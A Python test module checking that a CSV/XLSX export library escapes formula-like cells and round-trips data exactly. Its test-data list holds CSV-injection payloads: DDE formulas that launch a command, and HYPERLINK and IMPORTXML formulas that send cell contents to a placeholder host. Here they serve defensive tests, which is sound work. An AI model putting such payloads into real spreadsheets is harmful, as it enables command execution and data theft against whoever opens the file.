"""Tables for others: no cell becomes a formula, and nothing is lost on the way back."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from gassaku.notation import NotationError
from gassaku.notation.table import read_csv, read_xlsx
from gassaku.notation.table_writer import MAX_TEXT, could_be_formula, write_csv, write_xlsx

# The characters are those of OWASP's page on CSV injection; the payloads are the classes it and its sources describe.
PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://example.invalid?x="&A1,"open")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u3000=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    '=IMPORTXML(CONCAT("http://example.invalid?", A1), "//a")',
    "-",
    "--1",
    "+1+1",
    "-1,2,3",
    '="a"',
    '=1+1";=1+1',
]
HARMLESS = ["-5", "+5", "-1,250.00", "-12.5%", "", "달의 해협", "a=b", "1-2", "'quoted'", "5 %", "(5)"]


@pytest.mark.parametrize("text", PAYLOADS)
def test_a_formula_stays_text(text: str) -> None:
    assert could_be_formula(text)
    (line,) = csv.reader(io.StringIO(write_csv([[text, "x"]]).decode("utf-8-sig"), newline=""))
    assert line == [f"'{text}", "x"]
    sheet = load_workbook(io.BytesIO(write_xlsx([[text]]))).active
    assert sheet is not None
    cell = sheet["A1"]
    assert cell.data_type in ("s", "inlineStr")
    assert cell.quotePrefix
    assert cell.value.strip() == text.strip()


@pytest.mark.parametrize("text", HARMLESS)
def test_what_is_no_formula_stays_as_it_is(text: str) -> None:
    assert not could_be_formula(text)
    assert f'"{text}"'.encode() in write_csv([[text]])


TEXTS = st.text(st.characters(exclude_categories=("Cs", "Cc")), max_size=12)
CELLS = st.one_of(TEXTS, st.integers(-(10**15) + 1, 10**15 - 1), st.none())


@given(st.lists(st.lists(CELLS, min_size=2, max_size=2), max_size=6))
def test_our_own_reader_gives_every_cell_back_and_takes_no_apostrophe_away(rows: list[list[str | int | None]]) -> None:
    table = [["account", "금액"], *rows]
    expected = [
        [
            (
                "'" + cell if isinstance(cell, str) and could_be_formula(cell) else str("" if cell is None else cell)
            ).strip()
            for cell in row
        ]
        for row in rows
    ]
    back = read_csv(write_csv(table), "t.csv")
    assert [list(row.cells.values()) for row in back.rows] == [row for row in expected if any(row)]


@given(st.lists(st.lists(CELLS, min_size=2, max_size=2), min_size=1, max_size=4))
def test_a_workbook_gives_every_cell_back(rows: list[list[str | int | None]]) -> None:
    back = read_xlsx(write_xlsx([["account", "금액"], *rows, ["end", "end"]]), "t.xlsx")
    expected = [[str("" if cell is None else cell).strip() for cell in row] for row in rows]
    assert [[row["account"], row["금액"]] for row in back.rows[:-1]] == [row for row in expected if any(row)]


def test_numbers_stay_exact() -> None:
    amounts = [12345678901234567890, Decimal("0.10"), Decimal("12345678901234.567"), -5]
    back = read_xlsx(write_xlsx([["a", "b", "c", "d"], amounts]), "t.xlsx").rows[0]
    assert list(back.cells.values()) == ["12345678901234567890", "0.1", "12345678901234.567", "-5"]
    assert b"12345678901234567890" in write_csv([amounts])


def test_the_same_rows_give_the_same_bytes_whatever_the_day() -> None:
    data = write_xlsx([["달"]], title="a/b:c")
    assert data == write_xlsx([["달"]], title="a/b:c")
    assert b"1980" in load_workbook(io.BytesIO(data)).properties.created.isoformat().encode()  # type: ignore[union-attr]


def test_a_text_too_long_for_a_cell_is_told_and_not_cut() -> None:
    with pytest.raises(NotationError, match="Export it as CSV"):
        write_xlsx([["a"], ["x" * (MAX_TEXT + 1)]])


def test_control_characters_do_not_break_a_workbook() -> None:
    assert read_xlsx(write_xlsx([["a"], ["x\x00\x0b\ud800y"]]), "t.xlsx").rows[0]["a"] == "x\ufffd\ufffd\ufffdy"
